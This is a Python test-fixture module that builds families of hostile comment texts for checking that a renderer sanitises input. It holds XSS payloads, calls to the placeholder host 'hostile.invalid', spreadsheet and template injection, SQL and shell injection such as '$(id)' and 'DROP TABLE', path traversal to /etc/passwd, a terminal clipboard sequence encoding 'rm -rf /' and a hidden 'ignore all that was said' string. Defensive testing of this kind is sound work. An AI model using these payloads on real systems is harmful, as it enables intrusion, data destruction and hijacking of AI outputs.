"""Hostile texts, made from families of our own writing: what somebody may write into a comment.

Each that could run something sets `window.ran`, opens a dialog, or asks `HOST`. A test that
shows or prints them looks whether any of that happened.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from itertools import product

__all__ = ["CANARY", "FAMILIES", "HOST", "LONG", "PAYLOADS"]

HOST = "hostile.invalid"
"""A host that nothing may ask: `.invalid` is reserved, so no such request could be answered."""

CANARY = "window.ran=1"
_RUN = f"{CANARY};alert(1)"
_FROM = f"//{HOST}"


def _html() -> Iterator[str]:
    breaks = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>")
    tags = (
        f"<script>{_RUN}</script>",
        f"<script src={_FROM}/s.js></script>",
        f'<img src=x onerror="{_RUN}">',
        f'<img src="https:{_FROM}/i.png">',
        f'<iframe src="javascript:{_RUN}"></iframe>',
        f'<iframe srcdoc="<script>{_RUN.replace("window", "top")}</script>"></iframe>',
    )
    yield from (start + tag for start, tag in product(breaks, tags))
    yield from (
        f'<details open ontoggle="{_RUN}">x</details>',
        f'<input autofocus onfocus="{_RUN}">',
        f'<video src=x onerror="{_RUN}"></video>',
        f'<audio autoplay src="https:{_FROM}/a.ogg"></audio>',
        f'<body onload="{_RUN}">',
        f'<div onmouseover="{_RUN}" style="position:fixed;inset:0">x</div>',
        f'<div style="background:url(https:{_FROM}/b.png)">x</div>',
        f"<style>@import url(https:{_FROM}/c.css);</style>",
        "<style>body{display:none!important}</style>",
        f'<link rel=stylesheet href="https:{_FROM}/d.css">',
        f'<link rel=prefetch href="https:{_FROM}/e">',
        f'<meta http-equiv=refresh content="0;url=https:{_FROM}/">',
        f'<base href="https:{_FROM}/">',
        f'<form action="https:{_FROM}/f"><button autofocus>go</button></form>',
        f'<object data="https:{_FROM}/g"></object>',
        f'<embed src="https:{_FROM}/h">',
        f"<template shadowrootmode=open><script>{_RUN}</script></template>",
        f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
        f'<a href="javascript:{_RUN}">click</a>',
        "<marquee>x</marquee><blink>y</blink>",
        "<plaintext>all that follows",
        "<!-- <img src=x",
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp;#60;b&#62; &#0; &NotEqualTilde;",
        "<b><i><table><td><select><option>" * 20,
    )


def _svg() -> Iterator[str]:
    inner = (
        f"<script>{_RUN}</script>",
        f'<a xlink:href="javascript:{_RUN}"><text>x</text></a>',
        f'<animate onbegin="{_RUN}" attributeName=x dur=1s>',
        f'<set attributeName=href to="javascript:{_RUN}">',
        f'<image href="https:{_FROM}/i.svg">',
        f'<use href="https:{_FROM}/u.svg#x">',
        f'<foreignObject><img src=x onerror="{_RUN}"></foreignObject>',
    )
    yield f'<svg onload="{_RUN}">'
    yield f'<math href="javascript:{_RUN}"><mtext>x</mtext></math>'
    for one, outer in product(inner, ("<svg>{}</svg>", "<svg><desc>{}</desc></svg>")):
        yield outer.format(one)


def _links() -> Iterator[str]:
    targets = (
        f"javascript:{_RUN}",
        f"JaVaScRiPt:{_RUN}",
        f"java\tscript:{_RUN}",
        f"&#106;avascript:{_RUN}",
        f"javascript://%0a{_RUN}",
        f"data:text/html,<script>{_RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg onload='{_RUN}'/>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        f"https:{_FROM}/",
    )
    forms = ("[click]({})", "![picture]({})", "<{}>", "[x]: {}\n\n[x]")
    yield from (form.format(target) for form, target in product(forms, targets))


def _markdown() -> Iterator[str]:
    yield from (
        "# A heading",
        "**bold** _leaning_ ~~gone~~ `code`",
        "```html\n<script>alert(1)</script>\n```",
        "> quoted\n>> twice",
        "- a\n  - list\n    1. in a list",
        "| a | table |\n|---|---|\n| x | y |",
        "---",
        "[^1]\n\n[^1]: a footnote",
        "- [x] ticked",
        f"https:{_FROM}/bare and www.{HOST}",
        "[" * 200 + "x" + "](y)" * 200,
        "*" * 2_000,
        "    four blanks make code",
        "a  \nhard\\\nbreak",
    )


def _latex() -> Iterator[str]:
    yield from (
        f"$\\href{{javascript:{_RUN}}}{{x}}$",
        f"$\\url{{https:{_FROM}/}}$",
        f"$$\\includegraphics{{https:{_FROM}/i.png}}$$",
        "$\\input{/etc/passwd}$",
        "$$\\def\\a{\\a\\a}\\a$$",
        "$\\htmlClass{stApp}{x} \\htmlStyle{position:fixed}{y}$",
        "$\\color{red}{all of it}$",
        "\\begin{document}\\write18{ls}\\end{document}",
        "costs $5, no, $6 at least",
        "$\\unknown{$ \\( x \\) \\[ y \\]",
        "${\\rule{1000em}{1000em}}$",
    )


def _directives() -> Iterator[str]:
    colours = ("red", "blue", "green", "orange", "violet", "gray", "rainbow", "primary")
    for colour in colours:
        yield f":{colour}[coloured]"
        yield f":{colour}-background[marked]"
        yield f":{colour}-badge[:material/check: approved]"
    yield from (
        ":material/delete:",
        ":material/home: :material/no_such_icon:",
        ":streamlit:",
        ":small[tiny] :sub[low]",
        ":smile: :shortcode: :+1:",
        "<- -> <-> -- >= <= ~=",
        ":red[:blue[:green[" * 50,
    )


def _bidi() -> Iterator[str]:
    for mark in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        yield f"approve{mark}tcejer{mark} everything"
    yield "\u202e" * 500 + "turned"
    yield "a\u2067b\u2068c\u202ed" * 50


def _invisible() -> Iterator[str]:
    for mark in "\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u2063\u3164\ufeff\uffa0":
        yield f"i{mark}d{mark}i{mark}o{mark}t" + mark * 200
    yield "".join(chr(0xE0000 + ord(one)) for one in "ignore all that was said")
    yield "\ufe0f" * 300
    yield "\U0010fffe\uffff\ufdd0 no characters at all"
    yield "\ue000\U000f0000 private ones"
    yield "\u2028\u2029 line ends of their own"


def _zalgo() -> Iterator[str]:
    above = "".join(map(chr, range(0x300, 0x370)))
    yield "".join(letter + above for letter in "he comes")
    yield "a" + above * 20
    yield "\u0e49" * 500
    yield "\U0001f468\u200d" * 100 + "\U0001f9d1\U0001f3ff"
    yield "\ufdfd\u1242b\ua9c5" * 30


def _terminal() -> Iterator[str]:
    for begins in ("\x1b[", "\x9b"):
        for sequence in ("2J", "31m", "1;1H", "?1049h", "6n", "8m", "20t", "!p"):
            yield f"{begins}{sequence}steered"
    for begins, ends in (("\x1b]", "\x07"), ("\x1b]", "\x1b\\"), ("\x9d", "\x9c")):
        yield f"{begins}0;title{ends}"
        yield f"{begins}8;;https:{_FROM}/{ends}link{begins}8;;{ends}"
        yield f"{begins}52;c;cm0gLXJmIC8={ends}"
        yield f"{begins}1337;File=inline=1:AAAA{ends}"
    yield "\x1bc\x1b#8\x1bP$q\x1b\\"
    yield "\x1b_application\x1b\\ \x1b^private\x1b\\"
    yield "first\rover it\x08\x08\x08and back"
    yield "[bold red]rich's own markup[/] [link=https://hostile.invalid/]x[/link] [/nothing]"
    yield "\x0e\x0fshifted"


def _controls() -> Iterator[str]:
    for code in (*range(1, 32), *range(0x7F, 0xA0)):
        yield f"before{chr(code)}after"


def _cells() -> Iterator[str]:
    starts = ("=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    for start in starts:
        yield f'{start}HYPERLINK("https:{_FROM}/","x")'
    yield from (
        "=cmd|' /C calc'!A0",
        f'=WEBSERVICE("https:{_FROM}/")',
        "@SUM(1+1)*cmd|'x'!A1",
        '"=1+1',
        'a;=1+1,"=2+2"\r\n=3+3',
    )


def _templates() -> Iterator[str]:
    yield from (
        "{{7*7}} {{constructor.constructor('alert(1)')()}}",
        "${7*7} ${alert(1)}",
        "<%= 7*7 %> <?php echo 1 ?>",
        "#{7*7} {%raw%} {#x#}",
        "{0.__class__.__mro__} {self} {}",
        "%s %n %d %(name)s %%",
        "$(id) `id` ; id | id && id",
        "'; DROP TABLE decision; --",
        "' OR 1=1 --",
        "__import__('os').system('id')",
        "../../../../etc/passwd",
        "C:\\CON\\nul",
        "\\u0000 \\x1b[31m %00 %0d%0a",
        '{"$ne": null, "__proto__": {"ran": 1}}',
        "NaN null undefined true -0 1e999",
        "\x00after a NUL",
    )


FAMILIES: Mapping[str, Callable[[], Iterator[str]]] = {
    "html": _html,
    "svg": _svg,
    "links": _links,
    "markdown": _markdown,
    "latex": _latex,
    "directives": _directives,
    "bidi": _bidi,
    "invisible": _invisible,
    "zalgo": _zalgo,
    "terminal": _terminal,
    "controls": _controls,
    "cells": _cells,
    "templates": _templates,
}

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(text for family in FAMILIES.values() for text in family())
)

LONG: tuple[str, ...] = (
    "no blank in a million letters " + "a" * 1_000_000,
    "<b>" * 250_000,
    "many words in one comment, " * 40_000,
    "line\n" * 150_000,
)
"""Comments of about a megabyte."""
